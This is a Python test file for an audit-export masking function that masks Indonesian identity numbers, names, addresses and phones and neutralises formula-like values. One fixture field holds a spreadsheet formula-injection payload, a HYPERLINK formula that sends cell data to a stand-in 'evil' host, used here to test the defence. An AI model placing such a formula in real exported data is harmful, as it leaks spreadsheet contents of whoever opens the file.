"""A masked audit export: personal fields masked, birth date to the year, places to the regency,
formula-like texts neutralised."""

from __future__ import annotations

import json

from libs.audit.masking import masked_payload

NOMINATED = {
    "worker_id": "w-1",
    "nik": "1217054507880001",
    "full_name": '=HYPERLINK("http://evil/?"&A1,"klik")',
    "birth_date": "1988-07-05",
    "regency_code": "12.17",
    "kecamatan": "Pangururan",
    "desa": "Pintu Sona",
    "address": "Jl. Dr. Hadrianus Sinaga",
    "phone": "081361234567",
    "occupation": "+petani",
    "desa_code": "12.17.01.2001",
}


def test_personal_fields_are_masked_and_places_generalised() -> None:
    masked = masked_payload(NOMINATED)
    assert masked["nik"] == "1217**********01"
    assert masked["full_name"] == "'=***"
    assert masked["birth_date"] == "1988"
    assert (masked["kecamatan"], masked["desa"], masked["desa_code"]) == ("12.17", "12.17", "12.17")
    assert masked["address"] == "***" and masked["phone"] == "***"
    assert masked["occupation"] == "'+petani"
    text = json.dumps(masked)
    for clear in ("1217054507880001", "HYPERLINK", "1988-07-05", "Pangururan", "Pintu Sona", "Hadrianus"):
        assert clear not in text


def test_nested_identities_are_masked_too() -> None:
    validated = {"regency_code": "12.17", "identity": {"nik": "1217054507880001", "birth_date": "1988-07-05"}}
    masked = masked_payload(validated)
    assert masked["identity"] == {"nik": "1217**********01", "birth_date": "1988"}


def test_numbers_and_codes_stay() -> None:
    assert masked_payload({"amount": -5, "regency_code": "12.17", "months": 12}) == {
        "amount": -5,
        "regency_code": "12.17",
        "months": 12,
    }
